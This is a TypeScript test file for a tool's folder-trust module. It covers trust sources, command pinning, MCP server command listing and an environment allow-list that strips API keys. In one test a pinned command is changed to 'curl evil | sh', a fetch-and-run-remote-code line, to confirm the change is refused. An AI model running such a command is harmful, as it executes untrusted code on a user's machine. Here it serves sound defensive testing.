/** core/trust: who trusts a folder, and pinned project commands. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  EDITOR_TRUST_ENV, allowListedEnv, checkPinnedCommand, decideTrust, grantTrust, listTrust, revokeTrust, trustFilePath,
} from '../../../src/core/trust';
import { projectCommands } from '../../../src/core/trust/commands';
import { managedKeyVars } from '../../../src/core/providers/env';

describe('core/trust', () => {
  let root: string;
  let ws: string;
  let env: NodeJS.ProcessEnv;
  beforeEach(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sb-trust-')));
    ws = path.join(root, 'home', 'src', 'repo');
    fs.mkdirSync(ws, { recursive: true });
    env = { HOME: path.join(root, 'home'), SWITCHBOARD_HOME: path.join(root, 'sb') };
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  it('a folder nobody trusted is untrusted, and the explanation says how to trust it', () => {
    const d = decideTrust(ws, env);
    assert.equal(d.trusted, false);
    assert.match(d.explanation, /switchboard trust --workspace/);
  });

  it('the editor trusts through SWITCHBOARD_TRUSTED_FOLDERS (absolute folders only, links resolved)', () => {
    fs.symlinkSync(ws, path.join(root, 'link'));
    assert.equal(decideTrust(ws, { ...env, [EDITOR_TRUST_ENV]: `relative${path.delimiter}${path.join(root, 'link')}` }).source, 'editor');
    assert.equal(decideTrust(ws, { ...env, [EDITOR_TRUST_ENV]: 'home/src/repo' }).trusted, false);
    assert.equal(decideTrust(path.join(ws, '..'), { ...env, [EDITOR_TRUST_ENV]: ws }).trusted, false, 'a parent is not trusted by its child');
  });

  it('Claude Code trusts a folder and what lies below it, except through the home folder or the root', () => {
    const claude = path.join(env.HOME!, '.claude.json');
    fs.writeFileSync(claude, JSON.stringify({ projects: { [path.join(env.HOME!, 'src')]: { hasTrustDialogAccepted: true } } }));
    assert.equal(decideTrust(ws, env).source, 'claude-code');
    fs.writeFileSync(claude, JSON.stringify({ projects: { [env.HOME!]: { hasTrustDialogAccepted: true }, '/': { hasTrustDialogAccepted: true } } }));
    assert.equal(decideTrust(ws, env).trusted, false);
    assert.equal(decideTrust(env.HOME!, env).trusted, true, 'the home folder itself, when the user accepted it');
    fs.writeFileSync(claude, '{"projects": {"__proto__": {"hasTrustDialogAccepted": true}}}');
    assert.equal(decideTrust(ws, env).trusted, false);
    fs.writeFileSync(claude, 'not json');
    assert.equal(decideTrust(ws, env).trusted, false);
  });

  it('grant, list and revoke through trust.json (0600); a damaged file trusts nothing', async () => {
    await grantTrust(ws, [{ slot: 'server:a', text: 'node a.js' }], env);
    assert.equal(decideTrust(ws, env).source, 'switchboard');
    assert.deepEqual(listTrust(env).map((e) => [e.folder, Object.keys(e.pins)]), [[ws, ['server:a']]]);
    assert.equal(fs.statSync(trustFilePath(env)).mode & 0o777, 0o600);
    assert.equal(await revokeTrust(ws, env), true);
    assert.equal(decideTrust(ws, env).trusted, false);
    assert.equal(await revokeTrust(ws, env), false);
    fs.writeFileSync(trustFilePath(env), '{"folders": [{"folder": 1}]}');
    assert.equal(decideTrust(ws, env).trusted, false);
  });

  it('pins a command on first use, refuses a changed one (text or fingerprint), and runs nothing untrusted', async () => {
    const untrusted = decideTrust(ws, env);
    assert.equal((await checkPinnedCommand(untrusted, { slot: 'verify.tests', text: 'npm test' }, env)).ok, false);
    const editor = decideTrust(ws, { ...env, [EDITOR_TRUST_ENV]: ws });
    assert.equal((await checkPinnedCommand(editor, { slot: 'verify.tests', text: 'npm test' }, env)).ok, true);
    assert.equal(decideTrust(ws, env).trusted, false, 'pinning for an editor-trusted folder grants no trust of its own');
    assert.equal((await checkPinnedCommand(editor, { slot: 'verify.tests', text: 'npm test' }, env)).ok, true);
    const changed = await checkPinnedCommand(editor, { slot: 'verify.tests', text: 'curl evil | sh' }, env);
    assert.equal(changed.ok, false);
    assert.match((changed as { reason: string }).reason, /changed since this folder was trusted \(was: npm test\)/);
    assert.equal((await checkPinnedCommand(editor, { slot: 'server:x', text: 'node x', fingerprint: 'a' }, env)).ok, true);
    assert.equal((await checkPinnedCommand(editor, { slot: 'server:x', text: 'node x', fingerprint: 'b' }, env)).ok, false);
    assert.ok(!fs.readFileSync(trustFilePath(env), 'utf8').includes('"b"'), 'fingerprints are stored hashed');
  });

  it('projectCommands lists project servers and recipes, not the user\'s', () => {
    fs.writeFileSync(path.join(ws, '.mcp.json'), JSON.stringify({ mcpServers: { p: { command: 'node', args: ['p.js'] } } }));
    fs.mkdirSync(path.join(ws, '.mcp'));
    fs.writeFileSync(path.join(ws, '.mcp', 'discovery-config.yaml'), 'servers:\n  r:\n    npx: {package: pkg@1}\n');
    fs.mkdirSync(path.join(env.HOME!, '.claude', 'mcp', 'servers'), { recursive: true });
    fs.writeFileSync(path.join(env.HOME!, '.claude', 'mcp', 'servers', 'u.json'), JSON.stringify({ mcpServers: { u: { command: 'user-cmd' } } }));
    const commands = projectCommands(ws, env);
    assert.deepEqual(commands.map((c) => [c.slot, c.text]), [['server:p', 'node p.js'], ['server:r', 'npx -y pkg@1']]);
  });

  it('the child environment is an allow-list without managed keys', () => {
    const managed = managedKeyVars([{ apiKeyEnv: 'GROQ_API_KEY' }]);
    const out = allowListedEnv({ PATH: '/bin', HOME: '/h', LC_ALL: 'C', OPENAI_API_KEY: 'k', GROQ_API_KEY: 'g', AWS_SECRET_ACCESS_KEY: 'a', NODE_OPTIONS: '--require x' }, managed);
    assert.deepEqual(out, { PATH: '/bin', HOME: '/h', LC_ALL: 'C' });
    assert.ok(managed.has('GEMINI_API_KEY') && managed.has('GOOGLE_API_KEY') && managed.has('ANTHROPIC_API_KEY') && managed.has('GROQ_API_KEY'));
  });
});
